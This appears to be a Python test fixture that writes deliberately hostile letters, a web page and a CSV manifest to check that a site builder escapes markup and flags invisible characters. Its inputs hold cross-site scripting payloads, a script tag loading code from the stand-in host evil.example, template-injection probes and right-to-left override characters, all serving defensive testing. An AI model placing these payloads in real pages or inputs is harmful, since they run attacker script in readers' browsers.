"""A letter that would act if it could: markup, scripts, templates, writing direction, controls, broken references."""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

from helpers import tables
from helpers.build import build
from helpers.evidence import Sources, write

NAME = "a <b>&\"'#?%20 letter;é"
TITLE = '"><script src=//evil.example/x.js></script><h1>Title \u202eeltit {{ 7*7 }}'
TEXT = (
    "\ufeffDepartment of <i>Examples</i>\r\n\r\n"
    "3 March 2017\r\n\r\n"
    "Dear <script>alert(document.domain)</script> Ms Ek,\r\n\r\n"
    "Thank you for your letter of 1 February 2017.\r\n\r\n"
    "</p></div></section></main><style>*{display:none}</style><img src=x onerror=alert(1)><a href='javascript:alert(2)'>\n\n"
    '98% of councils {{ 7*7 }} {% raw %} said "> <svg onload=alert(3)> in 2016, and <b>57%</b> &amp; &#13; &lt; &nbsp; agreed.\n\n'
    "\u202e12% of children \u202d were \u2066 waiting \x9b31m in \x85 May 2015.\x0b\x0c\u2028 See <!-- https://evil.example/a?b=1&c=<d> --> ]]>\n\n"
    "[click](javascript:alert(4)) `code` **bold** $\\alpha$ ${1} <plaintext> <textarea> <xmp>\n\n"
    "   \n \t \n"
    "Call 020 7946 0958 or write to jo.ek@example.gov.uk about 44% of cases.\n\n"
    "Yours sincerely,\n\n"
    "<u>Jo Ek</u> MP\nMember of Parliament for <Rotherham>\n"
)
PAGE = "<html><body><h1>Example Council</h1><p>4 May 2018</p><p>Dear Minister,</p><p>&lt;script&gt;7%&lt;/script&gt; of 12 homes.</p><script>alert(5)</script><p>Yours faithfully,</p><p>Sam Ash</p></body></html>"
PLAIN = "5 June 2018\n\nDear Sam,\n\nNo figures.\n\nYours,\n\nJo"


def letters(folder: Path) -> Path:
    """Write the letters into a folder, with a manifest whose title acts too; return the folder."""
    folder.mkdir(parents=True)
    files = {f"{NAME}.txt": TEXT, "page.html": PAGE, "plain.txt": PLAIN}
    for name, text in files.items():
        (folder / name).write_bytes(text.encode())
    with (folder / "manifest.csv").open("w", encoding="utf-8", newline="") as out:
        rows = csv.writer(out)
        rows.writerow(["file", "sha256", "title", "publisher", "source", "licence"])
        rows.writerow([f"{NAME}.txt", hashlib.sha256(TEXT.encode()).hexdigest(), TITLE, *["<b>not known</b>"] * 3])
    return folder


def site(folder: Path) -> tuple[Path, Path]:
    """Return the tables and the pages of the letters that would act."""
    raw, made, pages = letters(folder / "raw"), folder / "tables", folder / "site"
    (problem,) = build(raw, tables.ROOT / "data" / "raw" / "reference", made)
    assert problem.file == f"{NAME}.txt" and "characters that are not seen" in problem.reason
    assert write(Sources(made, raw), pages) == []
    return made, pages
